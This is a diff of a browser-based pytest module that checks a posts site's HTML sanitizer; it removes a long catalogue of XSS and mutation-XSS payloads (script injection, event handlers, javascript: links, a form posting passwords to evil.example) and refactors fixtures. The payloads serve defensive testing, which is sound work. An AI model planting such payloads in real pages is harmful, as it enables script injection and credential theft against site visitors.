@@ -1,6 +1,7 @@
 """Safe bodies, checked in a real browser: every article of the hostile suite (tests/hostile.py,
-plus the attacks below) and a sample of the real posts in data/, rendered by the real
-`build_db.py serve` on 127.0.0.1 in headless Chromium.
+with its attack posts, `write_attack_posts`; built once per session, conftest.py) and a
+sample of the real posts in data/, rendered by the real `build_db.py serve` on 127.0.0.1 in
+headless Chromium.
 
 For each page: no script runs (no canary global in any frame, no dialog, no popup, the page
 stays where it was loaded), nothing but images is fetched from another host (every request
@@ -15,8 +16,6 @@ from __future__ import annotations
 
 import re
 import sqlite3
-import subprocess
-import sys
 from collections import deque
 from dataclasses import dataclass, field
 from pathlib import Path
@@ -25,123 +24,13 @@ from urllib.parse import urlsplit
 import pytest
 from selectolax.lexbor import LexborHTMLParser
 
-from hostile import ARTICLE, write_good_posts, write_hostile_posts
+from conftest import local_context
+from hostile import ARTICLE, EVIL
 from postsdb.parse import article_id
-from postsdb.serve import PROJECT, free_port, running_server
-
-from test_browser import CHROMIUM, CHROMIUM_ARGS  # one launch configuration for every browser test
+from postsdb.serve import running_server
 
 LOCAL = "127.0.0.1"
-EVIL = "https://evil.example"
 CORPUS_SAMPLE = 20
-
-# --- attacks the hostile suite lacks: each sets a canary if it ever runs -------------------
-
-CANARY_ATTACKS = {
-    "scripts": """<p>脚本<script>window.__canary='script'</script></p><SCRIPT SRC="{evil}/x.js"></SCRIPT>
-<script src="/-/static/app.js"></script><script type="module">window.__canary='module'</script>
-<p>拆开<scr<script>ipt>window.__canary='split'</scr</script>ipt></p>""",
-    "handlers": """<p onclick="window.__canary='onclick'" onmouseover="window.__canary='onmouseover'">悬停</p>
-<img src="x" onerror="window.__canary='onerror'"><img src="{local_image}" onload="window.__canary='onload'" alt="本地图片">
-<details open ontoggle="window.__canary='ontoggle'"><summary>摘要</summary>内容</details>
-<input autofocus onfocus="window.__canary='onfocus'"><body onload="window.__canary='body-onload'">
-<video><source onerror="window.__canary='source-onerror'"></video><marquee onstart="window.__canary='marquee'">跑马灯</marquee>
-<div style="animation: spin 1s" onanimationstart="window.__canary='animation'">动画</div>
-<svg><animate onbegin="window.__canary='onbegin'" attributeName="x" dur="1s"/></svg>
-<img src="{evil}/a.png" OnErRoR="window.__canary='mixed-case'" alt="大小写"><img src="{evil}/b.png"/onerror="window.__canary='slash'" alt="斜线">""",
-    "links": """<p><a href="javascript:window.__canary='js-link'">一</a> <a href="JAVASCRIPT:window.__canary='js-upper'">二</a>
-<a href="&#x6A;avascript:window.__canary='js-entity'">三</a> <a href="java&#x0A;script:window.__canary='js-newline'">四</a>
-<a href="data:text/html,&lt;script&gt;parent.__canary='data-html'&lt;/script&gt;">五</a>
-<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">六</a> <a href="vbscript:msgbox(1)">七</a>
-<a href="{evil}/page" target="_blank" rel="opener" ping="{evil}/ping">八</a> <a href="{evil}/file" download>九</a>
-<a href="https://good.example.org/ok">好链接</a></p>""",
-    "stylesheets-and-fonts": """<link rel="stylesheet" href="{evil}/x.css"><link rel="preload" as="font" href="{evil}/f.woff2" crossorigin>
-<link rel="prefetch" href="{evil}/p"><link rel="dns-prefetch" href="{evil}"><link rel="import" href="{evil}/i.html">
-<style>@import url("{evil}/import.css"); @font-face {{ font-family: evil; src: url("{evil}/font.woff2") }} body {{ font-family: evil; background: url("{evil}/bg.png") }}</style>
-<p style="font-family: evil; background-image: url({evil}/inline-bg.png)">样式</p><svg><style>@import url("{evil}/svg.css");</style></svg>
-<div style="behavior: url({evil}/x.htc); width: expression(window.__canary='expression')">旧IE</div>""",
-    "frames": """<iframe src="{evil}/frame"></iframe><iframe srcdoc="&lt;script&gt;parent.__canary='srcdoc'&lt;/script&gt;"></iframe>
-<iframe src="javascript:parent.__canary='iframe-js'"></iframe><frameset><frame src="{evil}/frame2"></frameset>
-<object data="{evil}/x.html" type="text/html"></object><embed src="{evil}/x.swf"><applet code="x.class"></applet>
-<portal src="{evil}/portal"></portal><p>框架后</p>""",
-    "meta-and-base": """<meta http-equiv="refresh" content="0;url={evil}/refresh"><meta http-equiv="refresh" content="0;url=javascript:window.__canary='meta'">
-<meta http-equiv="Content-Security-Policy" content="script-src *"><base href="{evil}/"><base target="_blank">
-<p>相对<a href="relative/link">链接</a><img src="relative/image.png" alt="相对图片"></p>""",
-    "forms": """<form action="{evil}/steal" method="post"><input name="password" type="password">
-<button formaction="javascript:window.__canary='formaction'">提交</button><input type="image" src="{evil}/input.png"></form><p>表单后</p>""",
-    "svg-and-math": """<svg xmlns="http://www.w3.org/2000/svg" onload="window.__canary='svg-onload'"><script>window.__canary='svg-script'</script>
-<a xlink:href="javascript:window.__canary='svg-link'"><text x="0" y="15">点</text></a><image href="{evil}/svg-image.svg"/>
-<foreignObject><iframe src="{evil}/fo"></iframe></foreignObject><use href="{evil}/sprite.svg#x"/></svg>
-<img src="data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/&gt;">
-<math><maction actiontype="statusline" xlink:href="javascript:window.__canary='math-link'">数学</maction></math>
-<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+"><p>矢量图后</p>""",
-    "media-and-images": """<img src="{evil}/tracker.png" referrerpolicy="unsafe-url" loading="eager" alt="跟踪">
-<img srcset="{evil}/1x.png 1x, {evil}/2x.png 2x" alt="srcset"><img data-src="{evil}/lazy.png" src="data:image/gif;base64,R0lGOD" alt="懒加载">
-<picture><source srcset="{evil}/source.webp" type="image/webp"><img src="{evil}/picture.png" alt="picture"></picture>
-<audio src="{evil}/a.mp3" autoplay></audio><video src="{evil}/v.mp4" poster="{evil}/poster.png" autoplay></video>
-<table background="{evil}/table-bg.png"><tr><td background="{evil}/td-bg.png">表格</td></tr></table>
-<img src="{local_image}" alt="本地图片二">""",
-}
-# Mutation XSS: markup that a sanitizer and a browser may parse differently. One post each,
-# so that one swallowing the rest of the body cannot hide another.
-MUTATION_ATTACKS = {
-    "mglyph-style": """<math><mtext><table><mglyph><style><img src=x onerror="window.__canary='mglyph'"></style></mglyph></table></mtext></math>""",
-    "svg-p-style": """<svg></p><style><a id="</style><img src=1 onerror=window.__canary='svg-p-style'>"></svg>""",
-    "noscript-title": """<noscript><p title="</noscript><img src=x onerror=window.__canary='noscript'>">无脚本</p></noscript>""",
-    "form-math": """<form><math><mtext></form><form><mglyph><style></math><img src onerror="window.__canary='form-math'">""",
-    "math-style": """<math><style><img src=x onerror="window.__canary='math-style'"></style></math>""",
-    "svg-style": """<svg><style><img src=x onerror="window.__canary='svg-style'"></style></svg>""",
-    "select-template": """<select><template><style><img src=x onerror="window.__canary='select-template'"></style></template></select>""",
-    "textarea": """<textarea></textarea><img src=x onerror="window.__canary='textarea'"><textarea><img src=x onerror="window.__canary='in-textarea'"></textarea>""",
-    "title": """<title><img src=x onerror="window.__canary='title-element'"></title><p>后</p>""",
-    "xmp": """<xmp><img src=x onerror="window.__canary='xmp'"></xmp><p>后</p>""",
-    "noembed-noframes": """<noembed><img src=x onerror="window.__canary='noembed'"></noembed><noframes><img src=x onerror="window.__canary='noframes'"></noframes>""",
-    "comment": """<!--><img src=x onerror="window.__canary='comment'">--><p>后</p>""",
-    "cdata": """<![CDATA[><img src=x onerror="window.__canary='cdata'">]]><p>后</p>""",
-    "attribute-quotes": """<a href="https://good.example.org/q" title="&quot;&gt;&lt;img src=x onerror=window.__canary='attr'&gt;">属性</a>
-<img src="https://img.example.org/ok.png" alt="&quot; onerror=&quot;window.__canary='alt'">""",
-    "iframe-text": """<iframe><img src=x onerror="window.__canary='iframe-text'"></iframe><p>后</p>""",
-    "plaintext": """<p>前</p><plaintext><img src=x onerror="window.__canary='plaintext'">""",
-    "style-in-table": """<table><style><img src=x onerror="window.__canary='table-style'"></style><tr><td>格</td></tr></table>""",
-}
-# Front matter fields are shown on the article page too (escaped by the template).
-FIELD_ATTACK = {
-    "title": "</title><script>window.__canary='title'</script><img src=x onerror=\"window.__canary='title-img'\">",
-    "author": "<img src=x onerror=\"window.__canary='author'\">",
-    "tag": "<svg onload=\"window.__canary='tag'\">",
-    "category": "<iframe src=\"https://evil.example/category\"></iframe>",
-}
-
-
-def yaml_quote(text: str) -> str:
-    return "'" + text.replace("'", "''") + "'"
-
-
-def write_attack_posts(folder: Path, local_image: str) -> dict[str, str]:
-    """Every attack as a post, in the RSS shape (one `<div>` line: only the sanitizer stands
-    in the way) and the scraped shape (chrome removal first); return {url: name}."""
-    folder.mkdir(parents=True, exist_ok=True)
-    posts = {}
-
-    def write(name: str, body: str, title: str = "攻击", author: str = "作者", tag: str = "测试", category: str = "攻击"):
-        url = f"https://attacks.example.com/{name}"
-        front = (
-            f"---\nlayout: post\ntitle: {yaml_quote(title + ' ' + name)}\ndate: 2024-01-02T03:04:05Z\n"
-            f"author: {yaml_quote(author)}\nfrom: {url}\ntags: [ {yaml_quote(tag)} ]\ncategories: [ {yaml_quote(category)} ]\n---\n"
-        )
-        (folder / f"{name}.md").write_text(front + body, encoding="utf-8")
-        posts[url] = name
-
-    for name, template in CANARY_ATTACKS.items():
-        body = template.format(evil=EVIL, local_image=local_image)
-        write(f"{name}-rss", "<div>" + body.replace("\n", "") + "</div>\n")
-        write(f"{name}-scraped", "<article>\n" + body + "\n</article>\n")
-    for name, body in MUTATION_ATTACKS.items():
-        # A sentence of text: a page with nothing left to read is refused, not stored.
-        write(f"mxss-{name}", "<div><p>正文。</p>" + body.replace("\n", "") + "</div>\n")
-    write("front-matter-fields", "<div><p>字段</p></div>\n", **FIELD_ATTACK)
-    return posts
-
 
 # --- what stored HTML may hold --------------------------------------------------------
 
@@ -286,26 +175,12 @@ CANARY_JS = "() => window.__canary === undefined ? null : String(window.__canary
 
 
 @pytest.fixture(scope="module")
-def browser():
-    """A fresh context (no profile on disk: a fifth faster per page than a persistent one)
-    that may only reach 127.0.0.1."""
-    if not CHROMIUM.exists():
-        pytest.skip(f"{CHROMIUM} is missing (apt-get install chromium; .ci/run does)")
-    sync_api = pytest.importorskip("playwright.sync_api", reason="the playwright package is not installed")
-    with sync_api.sync_playwright() as playwright:
-        chromium = playwright.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=CHROMIUM_ARGS)
-        context = chromium.new_context(viewport={"width": 1000, "height": 900}, service_workers="block")
-        context.route("**/*", only_local)
-        yield context
-        context.close()
-        chromium.close()
-
-
-def only_local(route):
-    if urlsplit(route.request.url).hostname == LOCAL:
-        route.continue_()
-    else:
-        route.abort()
+def context(browser):
+    """One context for the module's visits (the session's Chromium, conftest.py), which may
+    only reach 127.0.0.1."""
+    context = local_context(browser)
+    yield context
+    context.close()
 
 
 class Lane:
@@ -405,10 +280,9 @@ def corpus_sample(db: Path, size: int = CORPUS_SAMPLE) -> list[tuple[str, int]]:
 
 
 @pytest.fixture(scope="module")
-def corpus_visits(corpus_db, browser) -> list[tuple[str, Visit]]:
+def corpus_visits(corpus_db, data_site, context) -> list[tuple[str, Visit]]:
     sample = corpus_sample(corpus_db)
-    with running_server(corpus_db) as base:
-        visits = visit_all(browser, [f"{base}/posts/articles/{article}" for _, article in sample])
+    visits = visit_all(context, [f"{data_site}/posts/articles/{article}" for _, article in sample])
     return [(source, seen) for (source, _), seen in zip(sample, visits)]
 
 
@@ -428,7 +302,7 @@ def test_corpus_sample_renders_safely(corpus_visits):
     assert sum(v.dom["images"] for v in visits) > 0 and sum(v.dom["links"] for v in visits) > 0
 
 
-def test_the_checks_catch_what_they_look_for(browser):
+def test_the_checks_catch_what_they_look_for(context):
     """A page that does everything the article pages must not: every check must fire."""
     page_html = f"""<!doctype html><html><head>
 <link rel="stylesheet" href="{EVIL}/x.css"><style>@font-face {{ font-family: e; src: url({EVIL}/f.woff2) }} body {{ font-family: e }}</style>
@@ -440,11 +314,11 @@ def test_the_checks_catch_what_they_look_for(browser):
     def fulfil(route):
         route.fulfill(status=200, content_type="text/html", body=page_html)
 
-    browser.route(url, fulfil)
+    context.route(url, fulfil)
     try:
-        seen = visit(browser, url, settle_ms=300)
+        seen = visit(context, url, settle_ms=300)
     finally:
-        browser.unroute(url, fulfil)
+        context.unroute(url, fulfil)
     script = "\n".join(seen.script_problems())
     assert "canary 'control'" in script and "dialog 'control'" in script and "handlers: <img onerror>" in script
     assert "javascript:void(0)" in script and "<iframe" in script and "2 frames" in script
@@ -463,47 +337,23 @@ def test_the_checks_catch_what_they_look_for(browser):
 class Site:
     db: Path
     port: int
-    attack_urls: dict[str, str]  # url -> post name
+    attack_urls: dict[str, str]  # url -> post path
     ids: list[int]
     big_ids: list[int]
 
 
-@pytest.fixture(scope="module", autouse=True)
-def hostile_build(tmp_path_factory):
-    """tests/hostile.py's suite, its good posts and the attacks above, built into one database
-    by `build_db.py build` in the background (~10 s, mostly the 20 MB body) from the module's
-    first test on, while the corpus sample is visited."""
-    base = tmp_path_factory.mktemp("hostile-browser")
-    suite = base / "posts"
-    suite.mkdir()
-    expected = write_hostile_posts(suite)
-    write_good_posts(suite)
-    port = free_port()
-    attack_urls = write_attack_posts(base / "attacks", f"http://{LOCAL}:{port}/-/static/favicon.png")
-    db = base / "site" / "posts.db"
-    command = [sys.executable, str(PROJECT / "build_db.py"), "build", str(suite), str(base / "attacks"), "--db", str(db)]
-    with (base / "build.log").open("wb") as log:
-        process = subprocess.Popen(command, stdout=log, stderr=subprocess.STDOUT, cwd=base)
-    try:
-        yield process, base, db, port, attack_urls, expected
-    finally:
-        if process.poll() is None:  # the module ended early: stop the build (by its id)
-            process.kill()
-            process.wait(10)
-
-
 @pytest.fixture(scope="module")
 def hostile_site(hostile_build) -> Site:
-    process, base, db, port, attack_urls, expected = hostile_build
-    returncode = process.wait(timeout=240)
-    assert returncode == 0, (base / "build.log").read_text(errors="replace")[-3000:]
-    with sqlite3.connect(f"file:{db}?mode=ro", uri=True) as conn:
+    """The session's one hostile build (conftest.py; test_hostile.py checks each outcome)."""
+    built = hostile_build
+    assert built.run.returncode == 0, built.run.stderr[-3000:]
+    with sqlite3.connect(f"file:{built.db}?mode=ro", uri=True) as conn:
         ids = [row[0] for row in conn.execute("select id from articles order by path")]
         big_ids = [row[0] for row in conn.execute("select article_id from article_bodies where length(body_html) > 500000")]
         files = {path for (path,) in conn.execute("select path from article_files")}
-    # The suite's articles are the ones it expects (test_hostile.py checks each outcome).
-    assert {f"posts/{name}" for name, outcome in expected.items() if outcome == ARTICLE} <= files
-    return Site(db, port, attack_urls, ids, big_ids)
+    assert {name for name, outcome in built.expected.items() if outcome == ARTICLE} <= files
+    assert set(built.attacks.values()) <= files
+    return Site(built.db, built.port, {url: path for url, path in built.attacks.items()}, ids, big_ids)
 
 
 @pytest.fixture(scope="module")
@@ -513,15 +363,15 @@ def hostile_server(hostile_site) -> str:
 
 
 @pytest.fixture(scope="module")
-def hostile_visits(hostile_site, hostile_server, browser) -> dict[int, Visit]:
+def hostile_visits(hostile_site, hostile_server, context) -> dict[int, Visit]:
     # The biggest bodies load in the background (Chromium takes ~15 s to lay out the 20 MB
     # one) while the others are visited.
     order = hostile_site.big_ids + [a for a in hostile_site.ids if a not in hostile_site.big_ids]
     urls = [f"{hostile_server}/posts/articles/{article}" for article in order]
-    visits = dict(zip(order, visit_all(browser, urls, slow=len(hostile_site.big_ids))))
+    visits = dict(zip(order, visit_all(context, urls, slow=len(hostile_site.big_ids))))
     # plugins/html_cells.py shows the stored bodies, as they are, on this table page.
     attack_ids = ",".join(str(article_id(url)) for url in hostile_site.attack_urls)
-    visits[0] = visit(browser, f"{hostile_server}/posts/article_bodies?article_id__in={attack_ids}&_size=100", "td.col-body_html")
+    visits[0] = visit(context, f"{hostile_server}/posts/article_bodies?article_id__in={attack_ids}&_size=100", "td.col-body_html")
     return visits
 
 
@@ -567,10 +417,10 @@ def test_hostile_images_and_links_carry_referrer_and_rel_policies(hostile_visits
     assert sum(v.dom["links"] for v in hostile_visits.values()) > 20
 
 
-def test_images_keep_working(hostile_server, hostile_visits, browser):
+def test_images_keep_working(hostile_server, hostile_visits, context):
     """Two attack posts hold an image served by 127.0.0.1 itself: it loads, policies and all."""
     for name in ("handlers-rss", "media-and-images-scraped"):
-        page = browser.new_page()
+        page = context.new_page()
         try:
             page.goto(f"{hostile_server}/posts/articles/{article_id(f'https://attacks.example.com/{name}')}", wait_until="load")
             image = page.locator(f'.article-body img[src^="http://{LOCAL}:"]')
